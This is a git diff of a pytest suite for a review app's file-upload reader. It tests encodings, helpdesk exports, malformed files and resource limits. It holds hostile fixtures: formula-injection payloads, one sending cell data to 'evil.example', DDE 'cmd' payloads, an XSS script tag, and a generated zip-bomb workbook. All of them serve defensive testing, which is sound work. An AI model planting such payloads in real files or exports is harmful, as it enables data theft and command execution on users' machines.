@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import io
+import time
+import zipfile
 from pathlib import Path
 
 import pandas as pd
@@ -12,6 +14,7 @@ from openpyxl import Workbook as OpenpyxlWorkbook
 from lib import contract, uploads
 from lib.errors import UserFacingError
 from lib.uploads import ColumnGuess, apply_mapping, guess_columns, propose_label_mapping, read_upload
+from tests.data import make_upload_samples
 
 DATA = Path(__file__).resolve().parent / "data"
 
@@ -37,6 +40,28 @@ GOOD_FILES = {
     "long_text.csv": ("utf-8", ",", 13, ColumnGuess("text", "label", "category")),
     "hostile.csv": ("utf-8", ",", 8, ColumnGuess("text", "sentiment", "category")),
     "two_sheets.xlsx": (None, None, 12, ColumnGuess("Review", "Rating", "Channel")),
+    "labels_french.csv": ("utf-8", ",", 12, ColumnGuess("avis", "sentiment", None)),
+    "numbers_only.csv": ("utf-8", ",", 12, ColumnGuess(None, "stars", None)),
+    # other languages and their encodings
+    "japanese_shift_jis.csv": ("cp932", ",", 6, ColumnGuess("レビュー", "評価", "チャネル")),
+    "japanese_utf8.csv": ("utf-8", ",", 6, ColumnGuess("review", "sentiment", "channel")),
+    "arabic_rtl.csv": ("utf-8", ",", 6, ColumnGuess("text", "sentiment", "channel")),
+    "spanish_labels.csv": ("utf-8", ";", 6, ColumnGuess("comentario", None, None)),  # "sentimiento": the user picks it
+    "utf16be_bom.csv": ("utf-16", ",", 12, ColumnGuess("text", "label", None)),
+    # helpdesk exports: many columns, satisfaction scores, a team name in every row
+    "zendesk_export.csv": ("utf-8", ",", 12, ColumnGuess("Satisfaction Comment", "Satisfaction Score", "Group")),
+    "freshdesk_export.csv": ("utf-8-sig", ",", 12, ColumnGuess("Description", None, "Source")),
+    "helpdesk_title_row.xlsx": (None, None, 12, ColumnGuess("Comment", "Rating", "Channel")),
+    # awkward but readable shapes
+    "empty_columns.csv": ("utf-8", ",", 12, ColumnGuess("text", "sentiment", None)),
+    "unknown_labels.csv": ("utf-8", ",", 12, ColumnGuess("feedback", None, "mood")),
+    "quoted_newlines.csv": ("utf-8", ",", 4, ColumnGuess("text", "label", None)),
+    "formulas.csv": ("utf-8", ",", 6, ColumnGuess("text", "sentiment", None)),
+    "short_rows.csv": ("utf-8", ",", 3, ColumnGuess("text", "label", None)),
+    "mac_line_endings.csv": ("utf-8", ",", 12, ColumnGuess("text", "label", None)),
+    "trailing_separators.csv": ("utf-8", ";", 12, ColumnGuess("text", "label", None)),
+    "duplicate_names.csv": ("utf-8", ",", 12, ColumnGuess("Comment", "Rating", None)),
+    "blank_lines.csv": ("utf-8", ",", 3, ColumnGuess("text", "label", None)),
 }
 
 
@@ -61,6 +86,25 @@ def test_real_world_files_are_read_and_their_columns_guessed(name: str) -> None:
         ("utf8_comma.csv", "Comment", 3, 'Great value, but the manual says "plug in first", which is wrong.'),
         ("hostile.csv", "text", 0, "<script>alert('xss')</script> great product"),
         ("hostile.csv", "text", 2, '=HYPERLINK("http://evil.example","click me")'),
+        ("japanese_shift_jis.csv", "レビュー", 0, "配送が早くて、説明どおりに動きます。とても満足です。"),
+        ("japanese_utf8.csv", "channel", 2, "アプリ"),
+        ("arabic_rtl.csv", "text", 1, "الخدمة سيئة ولم يرد أحد على رسائلي"),
+        ("spanish_labels.csv", "comentario", 0, "¡Llegó rápido y funciona perfectamente! Muy contenta."),
+        ("utf16be_bom.csv", "text", 8, "Café au lait machine: crème is thick, taste is superb"),
+        ("quoted_newlines.csv", "text", 0, "First line.\r\nSecond line, with a comma.\r\n\r\nAfter a blank line."),
+        ("quoted_newlines.csv", "text", 1, 'She said "wow"\nthen left'),
+        ("formulas.csv", "text", 0, '=HYPERLINK("http://evil.example/?leak="&A1,"Click for refund")'),
+        ("formulas.csv", "text", 1, "+cmd|' /C calc'!A0"),
+        ("formulas.csv", "text", 2, "@SUM(1+9)*cmd|' /C calc'!A0"),
+        ("formulas.csv", "text", 5, "\t=tab then formula"),
+        ("zendesk_export.csv", "Description", 3, 'Great value, but the manual says "plug in first", which is wrong.'),
+        ("freshdesk_export.csv", "Customer Satisfaction", 1, "Unhappy"),
+        ("helpdesk_title_row.xlsx", "Comment", 0, "Arrived quickly and works exactly as described. Very happy!"),
+        ("helpdesk_title_row.xlsx", "Ticket", 11, "#5011"),
+        ("mac_line_endings.csv", "text", 11, "Works; battery lasts about a day"),
+        ("trailing_separators.csv", "label", 0, "positive"),
+        ("duplicate_names.csv", "Comment.1", 0, "ARRIVED QUICKLY AND WORKS EXACTLY AS DESCRIBED. VERY HAPPY!"),
+        ("blank_lines.csv", "text", 2, "Fine"),
     ],
 )
 def test_text_survives_encoding_quotes_and_newlines_exactly(name: str, column: str, row: int, expected: str) -> None:
@@ -122,23 +166,70 @@ def test_blank_rows_and_unnamed_empty_columns_are_dropped() -> None:
 # ---- bad input: one sentence that says what to fix, nothing read ---------------------------
 
 
-@pytest.mark.parametrize(
-    ("name", "message", "hint"),
-    [
-        ("empty.csv", "“empty.csv” is empty", "Export the reviews again"),
-        ("header_only.csv", "has column names but no rows of reviews", "Export the reviews again with their rows"),
-        ("png_renamed.csv", "“png_renamed.csv” is a PNG image, not a table of reviews", "CSV, TSV or text file"),
-        ("zipped.csv", "“zipped.csv” is a ZIP archive", "Unzip it"),
-        ("reviews.zip", "“reviews.zip” is not a file type the app reads", ".xlsx"),
-        ("one_column.csv", "has only one column (“review”)", "separate columns"),
-        ("mixed_encoding.csv", "mixes two text encodings", "CSV UTF-8"),
-    ],
-)
-def test_bad_files_get_a_plain_error_saying_what_to_fix(name: str, message: str, hint: str) -> None:
+# file -> (what the message says is wrong, what the hint says to do)
+BAD_FILES = {
+    "empty.csv": ("“empty.csv” is empty", "Export the reviews again"),
+    "header_only.csv": ("has column names but no rows of reviews", "Export the reviews again with their rows"),
+    "png_renamed.csv": ("“png_renamed.csv” is a PNG image, not a table of reviews", "CSV, TSV or text file"),
+    "pdf_renamed.csv": ("“pdf_renamed.csv” is a PDF document, not a table of reviews", "CSV, TSV or text file"),
+    "gzip_renamed.csv": ("“gzip_renamed.csv” is a gzip-compressed file, not a table of reviews", "CSV, TSV or text file"),
+    "old_excel.csv": ("“old_excel.csv” is an old-style Office file (.xls or .doc)", "Excel .xlsx workbook"),
+    "html_page.csv": ("“html_page.csv” is a web page (HTML), not a table of reviews", "CSV, TSV or text file"),
+    "zipped.csv": ("“zipped.csv” is a ZIP archive", "Unzip it"),
+    "reviews.zip": ("“reviews.zip” is not a file type the app reads", ".xlsx"),
+    "one_column.csv": ("has only one column (“review”)", "separate columns"),
+    "mixed_encoding.csv": ("mixes two text encodings", "CSV UTF-8"),
+    "no_header.csv": (
+        "The first line of “no_header.csv” looks like a row of reviews, not column names",
+        "Add a first line naming each column",
+    ),
+    "ragged_rows.csv": ("Line 5 has 3 values where the header has 2", "Check that line for a stray separator"),
+    "wide_header.csv": (
+        "“wide_header.csv” has more than 500 columns, the most the app reads",
+        "Keep only the columns the evaluation needs",
+    ),
+    "long_column_name.csv": (
+        "Column 2 of “long_column_name.csv” has a name 275 characters long; a column name may have at most 200",
+        "short column names",
+    ),
+    "zip_bomb.xlsx": ("times tighter than the 100 a spreadsheet can be", "save the sheet with the reviews as “CSV UTF-8”"),
+}
+
+
+@pytest.mark.parametrize("name", sorted(BAD_FILES))
+def test_bad_files_get_a_plain_error_saying_what_to_fix(name: str) -> None:
+    message, hint = BAD_FILES[name]
     with pytest.raises(UserFacingError) as caught:
         read(name)
     assert message in caught.value.message
     assert hint in caught.value.hint
+
+
+def test_every_file_of_the_corpus_has_an_expectation() -> None:
+    corpus = {path.name for path in DATA.iterdir() if path.suffix != ".py" and path.is_file()}
+    assert len(corpus) >= 40
+    assert corpus == set(GOOD_FILES) | set(BAD_FILES)
+    assert not set(GOOD_FILES) & set(BAD_FILES)
+    assert all(path.stat().st_size < 32 * 1024 for path in DATA.iterdir() if path.is_file()), "committed samples stay small"
+
+
+def test_the_corpus_is_what_its_script_builds() -> None:
+    built = make_upload_samples.build()
+    assert set(built) == {path.name for path in DATA.iterdir() if path.suffix != ".py" and path.is_file()}
+    stable = [name for name in built if not name.endswith((".xlsx", ".zip")) and name != "zipped.csv"]  # archives carry a timestamp
+    assert all(built[name] == (DATA / name).read_bytes() for name in stable)
+
+
+def test_awkward_shapes_keep_what_they_hold() -> None:
+    assert read("empty_columns.csv").frame[["Agent", "Tags"]].isna().all().all()
+    short = read("short_rows.csv").frame
+    assert short["label"].isna().tolist() == [False, False, True] and short["category"].isna().tolist() == [False, True, True]
+    assert list(read("trailing_separators.csv").frame.columns) == ["text", "label"]
+    book = uploads.workbook((DATA / "helpdesk_title_row.xlsx").read_bytes())
+    assert book is not None and book.sheets == ("Summary", "Tickets") and book.default == "Tickets"
+    zendesk = read("zendesk_export.csv").frame
+    assert propose_label_mapping(zendesk["Satisfaction Score"].unique()) == {"Good": "positive", "Bad": "negative", "Offered": None}
+    assert propose_label_mapping(read("unknown_labels.csv").frame["mood"].unique()) == {"Happy": None, "Angry": None, "Mixed": None}
 
 
 def test_ten_megabytes_in_one_cell_is_refused_with_row_and_column() -> None:
@@ -327,3 +418,209 @@ def test_label_values_are_listed_numbers_in_order_words_most_frequent_first() ->
     assert list(uploads.label_value_counts(read("cp1252_pipe.txt").frame, "note").index) == ["-1", "0", "1"]
     words = pd.DataFrame({"s": ["neg", "pos", "pos", "neu", "pos", "neg"]}).astype("string")
     assert list(uploads.label_value_counts(words, "s")) == [3, 2, 1]
+
+
+# ---- bounded work: nothing an upload holds can freeze the server ---------------------------
+# Time bounds are generous (the work takes well under half of them); the code they guard
+# took 8.6 s for 40,000 characters on one line, 4.5 s to sniff 32 KB and 38 s for 20,000 columns.
+FRENCH = [
+    "Très",
+    "bien",
+    "reçu,",
+    "l'équipe",
+    "était",
+    "gentille",
+    "mais",
+    "le",
+    "café",
+    "coûtait",
+    "5€",
+    "et",
+    "la",
+    "livraison",
+    "a",
+    "pris",
+    "une",
+    "éternité",
+]
+
+
+def french_line(words: int, seed: int) -> str:
+    return " ".join(FRENCH[(i * 7 + seed) % len(FRENCH)] for i in range(words))
+
+
+def seconds(action) -> float:
+    started = time.perf_counter()
+    action()
+    return time.perf_counter() - started
+
+
+def test_a_megabyte_on_one_line_in_a_legacy_encoding_is_decided_in_one_pass() -> None:
+    data = "text,label\r\ncafé,pos\r\n".encode("cp1252") + b"x" * 1_000_000 + b",neg\r\n"
+    assert seconds(lambda: uploads.text_encoding(data)) < 2.0
+    assert uploads.text_encoding(data) == "cp1252"
+    assert len(uploads.guess_sample(data * 8)) <= 1024 * 1024  # the guess sees a bounded start of the file
+    with pytest.raises(UserFacingError, match="Row 2 of column “text” holds 1,000,000 characters"):
+        read_upload("one_line.csv", data)
+
+
+def test_five_megabytes_of_long_lines_in_a_legacy_encoding_are_read_in_linear_time() -> None:
+    lines = [f'"{french_line(2000, i)}",{("pos", "neg")[i % 2]}\r\n' for i in range(460)]
+    data = ("text,label\r\n" + "".join(lines)).encode("cp1252")
+    assert len(data) > 5_000_000
+    table = None
+
+    def read() -> None:
+        nonlocal table
+        table = read_upload("long_lines.csv", data)
+
+    assert seconds(read) < 5.0  # about 0.6 s; the quadratic scan took minutes
+    assert (table.encoding, table.delimiter, len(table.frame)) == ("cp1252", ",", 460)
+    assert table.frame["text"].iloc[3] == french_line(2000, 3)
+
+
+def test_the_separator_is_sniffed_from_a_bounded_start_of_the_file() -> None:
+    # csv.Sniffer is quadratic on quotes after separators: it only ever sees a few KB.
+    hostile = ("text,label\n" + ',"' * 500_000).encode()
+    sample = uploads.sniff_sample(hostile, "utf-8")
+    assert len(sample) <= 4096
+    started = time.perf_counter()
+    with pytest.raises(UserFacingError, match="Line 2 has"):
+        read_upload("quotes.csv", hostile)
+    assert time.perf_counter() - started < 2.0
+    long_lines = ("a;b\n" + "x" * 3000 + ";1\n" + "y" * 3000 + ";2\n").encode()
+    assert uploads.sniff_sample(long_lines, "utf-8") == "a;b\n" + "x" * 3000 + ";1\n"  # cut after a line end
+
+
+def test_twenty_thousand_columns_are_refused_before_reading() -> None:
+    header = ",".join(f"column {i}" for i in range(20_000))
+    data = (header + "\n" + ",".join(["good"] * 20_000) + "\n").encode()
+    with pytest.raises(UserFacingError) as caught:
+        assert seconds(lambda: read_upload("wide.csv", data)) < 2.0
+    assert caught.value.message == "“wide.csv” has more than 500 columns, the most the app reads."
+    assert "Keep only the columns the evaluation needs" in caught.value.hint
+    exactly = ",".join(f"c{i}" for i in range(500)) + "\n" + ",".join(["review text"] * 500) + "\n"
+    assert len(read_upload("500.csv", exactly.encode()).frame.columns) == 500
+
+
+@pytest.mark.parametrize(
+    ("header", "message"),
+    [
+        ("text," + "n" * 201, "Column 2 of “names.csv” has a name 201 characters long; a column name may have at most 200."),
+        ("text," + "n" * 5_000_000, "A column name in “names.csv” is over 131,072 characters long; a column name may have at most 200."),
+        ('"' + "quote never closed, " * 20_000, "A column name in “names.csv” is over 131,072 characters long"),
+    ],
+)
+def test_an_overlong_column_name_is_refused_before_reading(header: str, message: str) -> None:
+    data = (header + "\nfine,pos\n").encode()
+    with pytest.raises(UserFacingError) as caught:
+        assert seconds(lambda: read_upload("names.csv", data)) < 2.0
+    assert message in caught.value.message
+    assert "short column names" in caught.value.hint
+    assert list(read_upload("ok.csv", ("text," + "n" * 200 + "\nfine,pos\n").encode()).frame.columns) == ["text", "n" * 200]
+
+
+def test_rows_are_limited_by_the_setting_with_a_message_naming_it() -> None:
+    data = (DATA / "utf8_comma.csv").read_bytes()  # 12 rows
+    assert len(read_upload("utf8_comma.csv", data, max_rows=12).frame) == 12
+    with pytest.raises(UserFacingError) as caught:
+        read_upload("utf8_comma.csv", data, max_rows=11)
+    assert caught.value.message == "“utf8_comma.csv” has more than 11 rows, the most the app reads from one file."
+    assert "SENTIMENT_REVIEW_MAX_UPLOAD_ROWS" in caught.value.hint
+    mac = (DATA / "mac_line_endings.csv").read_bytes()  # 12 rows, lines ending in \r only
+    assert len(read_upload("mac.csv", mac, max_rows=12).frame) == 12
+    with pytest.raises(UserFacingError, match="more than 11 rows"):
+        read_upload("mac.csv", mac, max_rows=11)
+    with pytest.raises(UserFacingError, match="The sheet “Reviews” has more than 11 rows"):
+        read_upload("two_sheets.xlsx", (DATA / "two_sheets.xlsx").read_bytes(), max_rows=11)
+
+
+def test_a_file_over_the_row_limit_is_read_no_further_than_the_limit() -> None:
+    many = b"text,label\n" + b"short review,pos\n" * 3_000_000  # 51 MB of tiny rows
+    started = time.perf_counter()
+    with pytest.raises(UserFacingError, match="more than 1,000 rows"):
+        read_upload("many.csv", many, max_rows=1000)
+    assert time.perf_counter() - started < 2.0
+
+
+def test_fifty_megabytes_in_one_cell_is_refused() -> None:
+    data = b'text,label\nfine,pos\n"' + b"word " * (10 * 1024 * 1024) + b'",neg\n'
+    with pytest.raises(UserFacingError) as caught:
+        assert seconds(lambda: read_upload("cell.csv", data)) < 5.0
+    assert "Row 2 of column “text” holds 52,428,800 characters, more than the 100,000 a cell may hold" in caught.value.message
+
+
+# ---- Excel: bounded before openpyxl unpacks anything ---------------------------------------
+
+
+def xlsx_with(members: dict[str, bytes], *, base: str = "two_sheets.xlsx") -> bytes:
+    """The sample workbook with some of its files replaced or added."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(DATA / base) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
+        for item in source.infolist():
+            if item.filename not in members:
+                target.writestr(item, source.read(item))
+        for name, content in members.items():
+            target.writestr(name, content)
+    return out.getvalue()
+
+
+def sheet_xml(rows: str) -> bytes:
+    return (
+        f'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{rows}</sheetData></worksheet>'.encode()
+    )
+
+
+def test_an_excel_zip_bomb_is_refused_before_unpacking() -> None:
+    # 40 MB of one repeated cell packs into about 40 KB: 1,000 times tighter than a real sheet.
+    bomb = xlsx_with({"xl/worksheets/sheet2.xml": sheet_xml('<row r="1"><c t="inlineStr"><is><t>x</t></is></c></row>' * 700_000)})
+    assert len(bomb) < 200_000
+    with pytest.raises(UserFacingError) as caught:
+        assert seconds(lambda: read_upload("bomb.xlsx", bomb)) < 1.0
+    assert "packed" in caught.value.message and "times tighter than the 100 a spreadsheet can be" in caught.value.message
+    assert "save the sheet with the reviews as “CSV UTF-8”" in caught.value.hint
+
+
+def test_an_excel_file_too_big_unpacked_or_with_too_many_files_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
+    crowded = xlsx_with({f"xl/media/image{i}.png": b"" for i in range(1001)})
+    with pytest.raises(
+        UserFacingError, match=f"holds {len(zipfile.ZipFile(io.BytesIO(crowded)).namelist()):,} internal files, more than the 1,000"
+    ):
+        read_upload("crowded.xlsx", crowded)
+    rows = "".join(f'<row r="{i}"><c t="inlineStr"><is><t>{french_line(30, i)}</t></is></c></row>' for i in range(1, 8000))
+    big = xlsx_with({"xl/worksheets/sheet2.xml": sheet_xml(rows)})
+    monkeypatch.setattr(uploads, "MAX_XLSX_UNPACKED_MB", 1)
+    with pytest.raises(UserFacingError, match=r"would take \d MB once unpacked, over the limit of 1 MB"):
+        uploads.workbook(big)
+
+
+def test_an_excel_file_whose_directory_understates_a_size_is_damaged_not_read_further() -> None:
+    data = bytearray(xlsx_with({"xl/worksheets/sheet2.xml": sheet_xml('<row r="1"><c t="inlineStr"><is><t>x</t></is></c></row>' * 20_000)}))
+    # Make the archive's directory claim the sheet unpacks to 2,000 bytes (it is 1.1 MB).
+    entry = data.rindex(b"PK\x01\x02", 0, data.rindex(b"xl/worksheets/sheet2.xml"))
+    data[entry + 24 : entry + 28] = (2000).to_bytes(4, "little")
+    with pytest.raises(UserFacingError, match="could not be opened; it may be damaged"):
+        read_upload("lying.xlsx", bytes(data))
+
+
+def test_a_sheet_with_a_cell_far_away_costs_nothing_and_a_wide_sheet_is_refused() -> None:
+    # Cells right of column 501 are never built (a row of XFD cells would be 16,384 wide).
+    far = xlsx_with(
+        {
+            "xl/worksheets/sheet2.xml": sheet_xml(
+                '<row r="1"><c r="A1" t="inlineStr"><is><t>text</t></is></c><c r="B1" t="inlineStr"><is><t>label</t></is></c></row>'
+                '<row r="2"><c r="A2" t="inlineStr"><is><t>good</t></is></c><c r="B2" t="inlineStr"><is><t>pos</t></is></c></row>'
+                '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>far</t></is></c></row>'
+            )
+        }
+    )
+    assert seconds(lambda: read_upload("far.xlsx", far, "Reviews")) < 5.0  # about 0.5 s
+    table = read_upload("far.xlsx", far, "Reviews")
+    assert list(table.frame.columns) == ["text", "label"] and list(table.frame["text"]) == ["good"]
+    book = OpenpyxlWorkbook()
+    book.active.append([f"column {i}" for i in range(501)])
+    book.active.append(["good"] * 501)
+    out = io.BytesIO()
+    book.save(out)
+    with pytest.raises(UserFacingError, match="has more than 500 columns"):
+        read_upload("wide.xlsx", out.getvalue())
